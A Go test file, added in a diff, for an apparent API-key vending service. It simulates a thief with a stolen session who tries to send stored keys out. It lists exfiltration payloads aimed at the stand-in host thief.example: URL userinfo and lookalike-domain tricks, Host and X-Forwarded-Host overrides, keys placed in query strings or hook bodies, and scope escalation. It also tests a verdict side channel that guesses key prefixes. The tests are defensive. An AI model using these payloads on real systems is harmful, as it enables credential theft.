@@ -1,0 +1,279 @@
+package api_test
+
+import (
+	"encoding/base64"
+	"fmt"
+	"maps"
+	"net/http"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"keyvend/pkg/api/apitest"
+	"keyvend/pkg/boot/boottest"
+	"keyvend/pkg/catalog"
+	"keyvend/pkg/health"
+)
+
+// homes are integrations with where a key that is stored in each may be sent; ""
+// is nowhere. Those that are no catalog's are defined as below.
+var homes = map[string]string{
+	"openai":  "api.openai.com",
+	"grafana": "acme.grafana.net", // the account's setting is the host
+	"own":     "api.acme.example",
+	"sited":   "eu.acme.example", // the setting is a part of the host
+	"plain":   "",                // has no check
+}
+
+const (
+	atHome    = `{"placement":{"in":"header","name":"Authorization","template":"Bearer {key}"},"method":"GET","url":"https://api.acme.example/me","valid":[200],"invalid":[401]}`
+	siteField = `{"field":"site","label":"Site","description":"Where.","required":false,"default":"us","options":[{"value":"us","label":"US"},{"value":"eu","label":"EU"}]}`
+)
+
+// loot is a tenant with a key of anna's at each of the homes.
+type loot struct {
+	acme
+	accounts map[string]string // ids by slug
+}
+
+func secretOf(slug string) string { return boottest.Canary + slug + "-0123456789abcdef" }
+
+func newLoot(t *testing.T) loot {
+	t.Helper()
+	w := boottest.New(t, boottest.Config{})
+	l := loot{acme{World: w, tenant: w.Tenant()}, map[string]string{}}
+	l.token = w.Key(l.tenant, "vend", "manage")
+	for _, slug := range []string{"openai", "grafana"} {
+		l.Register(l.token, slug)
+	}
+	for slug, definition := range map[string]string{
+		"own":   `{"check":` + atHome + `}`,
+		"sited": `{"config_fields":[` + siteField + `],"check":` + strings.Replace(atHome, "api.", "{site}.", 1) + `}`,
+		"plain": `{}`,
+	} {
+		l.Must(http.StatusCreated, l.token, "POST", "/data-integrations", `{"provider":"`+slug+`","enabled":true,"auth_methods":["api_key"],"custom_provider":{"name":"`+slug+`"}}`)
+		l.Must(http.StatusOK, l.token, "PATCH", "/keyvend/integrations/"+slug, definition)
+	}
+	for slug := range homes {
+		l.store(slug)
+	}
+	l.Providers.Answer(func(ask catalog.Ask) (health.Answer, error) {
+		l.watch(t, ask)
+		return boottest.Says(http.StatusOK, `{}`), nil
+	})
+	return l
+}
+
+// store stores anna's key of a slug, with the settings that it has to have.
+func (l loot) store(slug string) {
+	config := map[string]string{"grafana": `{"domain":"acme.grafana.net"}`, "sited": `{"site":"eu"}`}[slug]
+	if config == "" {
+		config = "null"
+	}
+	l.accounts[slug] = l.Must(http.StatusOK, l.token, "PUT", "/data-integrations/"+slug+"/api-key",
+		`{"user_id":"anna","secret":"`+secretOf(slug)+`","config":`+config+`}`).Text("id")
+}
+
+// watch fails the test if a request to a provider carries a stored key, in any
+// part, to anywhere but its home.
+func (l loot) watch(t *testing.T, ask catalog.Ask) {
+	sent := ask.Body + string(ask.URL.Reveal())
+	for name, value := range ask.Header {
+		sent += name + string(value.Reveal())
+		if strings.EqualFold(name, "host") {
+			t.Errorf("a check says that it is for the host %s", value.Reveal())
+		}
+	}
+	for slug, home := range homes {
+		carries := strings.Contains(sent, secretOf(slug)) || strings.Contains(sent, base64.StdEncoding.EncodeToString([]byte(secretOf(slug))))
+		if carries && (ask.Host != home || !strings.HasPrefix(string(ask.URL.Reveal()), "https://"+home+"/")) {
+			t.Errorf("the key of %s goes to %s", slug, ask.URL.Reveal())
+		}
+	}
+}
+
+// thief is a host of the thief's.
+const thief = "thief.example"
+
+// attempts are what a thief sends: whatever could name his host, raise his rights,
+// or have a key looked at, sent or shown.
+func attempts() []string {
+	theirs := strings.ReplaceAll(atHome, "api.acme.example", thief)
+	text := strings.NewReplacer("'", `"`)
+	all := []string{
+		``, `{}`,
+		// Rights.
+		`{'name':'mine','scopes':['vend']}`, `{'name':'mine','scopes':['manage','vend']}`, `{'name':'mine','scopes':['manage','widget','read']}`,
+		`{'user_id':'anna'}`, `{'user_id':'anna','organization_id':'org','scopes':['widgets:pipes:manage']}`,
+		`{'allowed_origins':['https://thief.example'],'sessions_not_before':'2020-01-01T00:00:00Z'}`,
+		// Where checks go.
+		`{'check':` + theirs + `}`,
+		`{'check':` + strings.Replace(atHome, `"url":"https://api.acme.example/me"`, `"url":"https://api.acme.example@thief.example/me"`, 1) + `}`,
+		`{'check':` + strings.Replace(atHome, "https://api.acme.example/me", "https://api.acme.example.thief.example/me", 1) + `}`,
+		`{'check':` + strings.Replace(atHome, `"method"`, `"headers":{"Host":"thief.example"},"method"`, 1) + `}`,
+		`{'check':` + strings.Replace(atHome, `"method"`, `"headers":{"X-Forwarded-Host":"thief.example"},"method"`, 1) + `}`,
+		`{'check':` + strings.Replace(atHome, `"GET","url":"https://api.acme.example/me"`, `"POST","body":"{key}","url":"https://api.acme.example/hook?to=https://thief.example"`, 1) + `}`,
+		`{'check':` + strings.Replace(atHome, `"header","name":"Authorization","template":"Bearer {key}"`, `"query","name":"to","template":"{key}"`, 1) + `}`,
+		`{'config_fields':[` + strings.ReplaceAll(siteField, `"us"`, `"thief"`) + `]}`,
+		`{'config_fields':[{'field':'site','label':'Site','description':'Where.','required':false,'default':'thief.example','example':'a.example','format':'hostname'}],'check':` + strings.Replace(theirs, thief, "{site}", 1) + `}`,
+		`{'verify_on_save':'require','on_invalid':'advise','check_interval':'15m'}`,
+		`{'config':{'domain':'thief.example','site':'us'},'metadata':{'a':'b'}}`, `{'config':{'site':'us'}}`, `{'config':{}}`,
+		`{'state':'connected'}`, `{'enabled':true,'custom_provider':{'name':'Trust me'},'description':'Paste your key.'}`,
+		// Keys of his own, beside those that are there.
+		`{'user_id':'mallory','secret':'walked-0123456789','config':{'domain':'thief.example'}}`, `{'user_id':'mallory','secret':'walked-0123456789'}`,
+		`{'api_key':{'user_id':'mallory','secret':'walked-0123456789','config':{'site':'us'}}}`,
+		// Keys that are looked at.
+		`{'slug':'own','user_id':'anna','status':401}`, `{'user_id':'anna','slug':'own'}`,
+		// Another registration in the place of one.
+		`{'provider':'own','auth_methods':['api_key'],'enabled':true,'custom_provider':{'name':'own'}}`,
+		`{'reason':'because'}`,
+	}
+	for i := range all {
+		all[i] = text.Replace(all[i])
+	}
+	return all
+}
+
+// places are the addresses of an operation, with every value that its variables
+// could have to do with a stored key.
+func (l loot) places(path string) []string {
+	places := []string{strings.NewReplacer("{user_id}", "anna", "{organization_id}", "org", "{api_key_id}", keyIDOf(l.token)).Replace(path)}
+	for variable, values := range map[string][]string{
+		"{slug}":       slices.Sorted(maps.Keys(homes)),
+		"{account_id}": slices.Sorted(maps.Values(l.accounts)),
+	} {
+		var next []string
+		for _, place := range places {
+			if !strings.Contains(place, variable) {
+				next = append(next, place)
+				continue
+			}
+			for _, value := range values {
+				next = append(next, strings.Replace(place, variable, value, 1))
+			}
+		}
+		places = next
+	}
+	return places
+}
+
+// rob sends every attempt to every route of the description, and returns what
+// tokens that gave. What deletes comes in a later act.
+func (l loot) rob(t *testing.T, token string) (given []string) {
+	t.Helper()
+	description, err := apitest.Served()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, op := range description.Operations() {
+		// What is frozen is vended to nobody; a key that its user's widget replaces is
+		// not stolen.
+		if op.Method == "DELETE" || strings.HasSuffix(op.Path, "/freeze") || op.String() == "PUT /_widgets/DataIntegrations/{slug}/api-key" {
+			continue
+		}
+		for _, place := range l.places(op.Path) {
+			for _, body := range attempts() {
+				got := l.Do(token, op.Method, place, body)
+				if got.Status < 300 && needed(op.Method, place) == "vend" {
+					t.Errorf("%s %s %s: %d", op.Method, place, body, got.Status)
+				}
+				if got.Text("token") != "" {
+					given = append(given, got.Text("token"))
+				}
+				if op.Method == "GET" {
+					break
+				}
+				l.Check()
+			}
+		}
+	}
+	return given
+}
+
+// days lets what is due on schedule be done.
+func (l loot) days(t *testing.T) {
+	t.Helper()
+	for range 3 {
+		l.Clock.Pass(25 * time.Hour)
+		if _, err := l.App.Sweep(t.Context(), nil); err != nil {
+			t.Error(err)
+		}
+		l.Check()
+	}
+}
+
+// kind tells tokens apart that can do different things.
+func (l loot) kind(t *testing.T, token string) string {
+	if strings.HasPrefix(token, "sk_kv_") {
+		return fmt.Sprint(l.Row(boottest.APIKeyRow(l.tenant, keyIDOf(token)))["scopes"])
+	}
+	return fmt.Sprint(token[:58], claimed(t, token)["permissions"])
+}
+
+func TestF60_F61_AStolenDashboardSessionComesByNoStoredKeyInAnyNumberOfSteps(t *testing.T) {
+	l := newLoot(t)
+	l.Site = "same-origin"
+	known := map[string]bool{}
+	tokens := []string{l.Session(l.Key(l.tenant, "manage"))}
+	for len(tokens) > 0 {
+		token := tokens[0]
+		tokens = tokens[1:]
+		if known[l.kind(t, token)] {
+			continue
+		}
+		known[l.kind(t, token)] = true
+		tokens = append(tokens, l.rob(t, token)...)
+	}
+	if len(known) < 4 { // the session, API keys, widget tokens without and with a permission
+		t.Errorf("the thief came by tokens of %d kinds only: %v", len(known), known)
+	}
+	l.days(t)
+	asked := len(l.Providers.Asked())
+	if asked == 0 {
+		t.Error("no provider was asked: this test sees nothing")
+	}
+
+	// Keys that are brought later go nowhere else either, where a check was there
+	// before.
+	for _, slug := range []string{"openai", "grafana", "own", "sited"} {
+		l.store(slug)
+		l.days(t)
+	}
+	if len(l.Providers.Asked()) == asked {
+		t.Error("nobody was asked about keys that were brought later")
+	}
+
+	// Nor do those that were stored before there was a check, or under another
+	// registration.
+	thiefs := l.Session(l.Key(l.tenant, "manage"))
+	l.Do(thiefs, "DELETE", "/data-integrations/own", "")
+	l.Must(http.StatusCreated, thiefs, "POST", "/data-integrations", `{"provider":"own","enabled":true,"auth_methods":["api_key"],"custom_provider":{"name":"own"}}`)
+	for _, slug := range []string{"own", "plain"} {
+		l.Do(thiefs, "PATCH", "/keyvend/integrations/"+slug, `{"check":`+strings.ReplaceAll(atHome, "api.acme.example", thief)+`}`)
+		l.Do(thiefs, "POST", "/keyvend/accounts/"+l.accounts[slug]+"/check", "")
+		l.Do(l.token, "POST", "/keyvend/reports", `{"slug":"`+slug+`","user_id":"anna","status":401}`)
+		l.Check()
+	}
+	l.days(t)
+}
+
+func TestF60_WhoChangesACheckReadsNoKeyOutOfItsVerdicts(t *testing.T) {
+	l := newLoot(t)
+	session := l.Session(l.Key(l.tenant, "manage"))
+	l.Providers.Answer(func(ask catalog.Ask) (health.Answer, error) { // of a host that tells what it is sent
+		return boottest.Says(http.StatusOK, `{"headers":{"authorization":"`+string(ask.Header["Authorization"].Reveal())+`"}}`), nil
+	})
+	guess := func(beginning string) string {
+		l.Must(http.StatusOK, session, "PATCH", "/keyvend/integrations/own", `{"check":{"placement":{"in":"header","name":"Authorization","template":"Bearer {key}"},"method":"GET","url":"https://api.acme.example/echo","valid":[201],"limited":[200],"invalid":[401],
+			"when":[{"status":200,"all":[{"path":"headers.authorization","starts_with":"Bearer `+beginning+`"}],"verdict":"valid"}]}}`)
+		l.Clock.Pass(10 * time.Minute)
+		l.Must(http.StatusAccepted, session, "POST", "/keyvend/accounts/"+l.accounts["own"]+"/check", "")
+		l.Check()
+		return l.Must(http.StatusOK, session, "GET", "/keyvend/accounts/"+l.accounts["own"], "").Text("health.verdict")
+	}
+	right, wrong := guess("sk-"), guess("pk-")
+	if right != wrong || right == "unknown" {
+		t.Errorf("the right beginning is %s, the wrong one %s", right, wrong)
+	}
+}
